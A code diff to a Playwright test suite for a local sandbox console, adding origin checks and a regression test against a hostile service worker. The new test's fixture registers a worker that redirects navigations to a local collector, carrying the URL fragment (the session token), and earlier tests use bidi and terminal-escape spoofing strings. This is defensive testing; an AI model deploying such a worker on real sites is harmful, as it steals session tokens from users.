@@ -2,10 +2,11 @@
 // exchanges, verdicts, send, certify, explore, the state machine, accessibility, the keyboard,
 // and a page on another origin that must not be able to read or drive it.
 import { execFile } from 'node:child_process';
+import { createServer } from 'node:http';
 import { mkdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { test as base, expect, type Page } from '@playwright/test';
-import { attackPage, httpServer, ROOT, RUNTIME_DIR, startPosKit, startSandbox, type Child } from '../support/console';
+import { attackPage, freePort, httpServer, ROOT, RUNTIME_DIR, startPosKit, startSandbox, type Child } from '../support/console';
 import { describeViolations, runAxe, WCAG_TAGS } from '../support/site';
 
 const test = base.extend<{ sandbox: Child }>({
@@ -53,13 +54,15 @@ function consoleToken(sandbox: Child): Record<string, string> {
 
 /** Opens the console as its user does, from the URL the sandbox printed (the page trades its token for a session), then goes to `route`. */
 async function openConsole(page: Page, sandbox: Child, route: string): Promise<void> {
+  const origin = new URL(sandbox.consoleUrl).origin;
   await page.goto(sandbox.consoleUrl);
   // The token leaves the address bar at once.
-  await expect(page).toHaveURL(`${sandbox.url}/`);
+  await expect(page).toHaveURL(`${origin}/`);
   await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
   if (route !== '') {
+    // The sandbox's own address sends the browser to the console's port, route kept.
     await page.goto(`${sandbox.url}/${route}`);
-    await expect(page).toHaveURL(`${sandbox.url}/${route}`);
+    await expect(page).toHaveURL(`${origin}/${route}`);
   }
 }
 
@@ -123,6 +126,8 @@ test.describe('the sandbox console', () => {
     expect(text).toContain('\\u202egnp.exe');
     expect(text).toContain('\\x1b[201~\\x03');
     expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
+    // The curl names the sandbox's own address, the same each run, not the console page's port.
+    await expect(page.getByLabel('The request as a curl command')).toContainText(`'${sandbox.url}/pos/demo-partner/webhook'`);
   });
 
   test('a send reaches the partner test server signed, and its verdict shows', async ({ page, sandbox }) => {
@@ -315,6 +320,55 @@ test.describe('the sandbox console', () => {
     await expect(page.getByRole('navigation')).toHaveCount(0);
     expect(await page.content()).not.toContain(sandbox.consoleUrl.split('token=')[1]!);
     expect(await axe(page)).toEqual([]);
+  });
+
+  test("a service worker left at the sandbox's address by whatever answered it before the sandbox started never sees the console URL", async ({ page }) => {
+    const port = await freePort();
+    const stolen: string[] = [];
+    const collector = await httpServer((request) => {
+      stolen.push(request.url);
+      return { status: 204 };
+    });
+    // Another local user's server on the port, while no sandbox runs there: its page registers a worker
+    // that answers every later visit to this origin with a page that sends the address's fragment away.
+    const worker = `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  if (event.request.mode === 'navigate') event.respondWith(new Response('<script>location.href = ${JSON.stringify(`${collector.url}/`)} + encodeURIComponent(location.hash)</script>', { headers: { 'content-type': 'text/html' } }));
+});`;
+    const squatter = createServer((request, response) => {
+      if (request.url === '/worker.js') return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
+      response.writeHead(200, { 'content-type': 'text/html' }).end("<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted' })</script>");
+    });
+    await new Promise<void>((done) => squatter.listen(port, '127.0.0.1', done));
+    let sandbox: Child | undefined;
+    try {
+      // The partner follows the API reference's "Try it in your local sandbox" link while their sandbox is stopped.
+      await page.goto(`http://127.0.0.1:${port}/#/explore/pos/getCatalog`);
+      await expect(page).toHaveTitle('planted');
+      squatter.closeAllConnections();
+      await new Promise<void>((done) => squatter.close(() => done()));
+      sandbox = await startSandbox(port);
+      // The console's page is on a port of its own, which nothing answered before this run.
+      await openConsole(page, sandbox, '');
+      await expect(page.locator('main h1')).toHaveText('Exchanges');
+      expect(stolen, 'the worker served no page of the console').toEqual([]);
+      // It still answers a visit to the sandbox's own address, which holds no secret, until the browser
+      // checks it for an update: the sandbox answers that check with a worker that removes itself.
+      const origin = new URL(sandbox.consoleUrl).origin;
+      const running = sandbox;
+      await expect(async () => {
+        await page.goto(`${running.url}/`, { waitUntil: 'commit' }).catch(() => undefined);
+        await expect(page).toHaveURL(`${origin}/`, { timeout: 2000 });
+      }).toPass({ timeout: 30_000 });
+      const token = new URLSearchParams(new URL(sandbox.consoleUrl).hash.slice(1)).get('token')!;
+      expect(stolen.join(' '), 'the worker never saw the token').not.toContain(token);
+    } finally {
+      squatter.closeAllConnections();
+      squatter.close();
+      await sandbox?.close();
+      await collector.close();
+    }
   });
 
   test('a page on another origin can neither read the console nor make the sandbox reset or send', async ({ page, sandbox }) => {
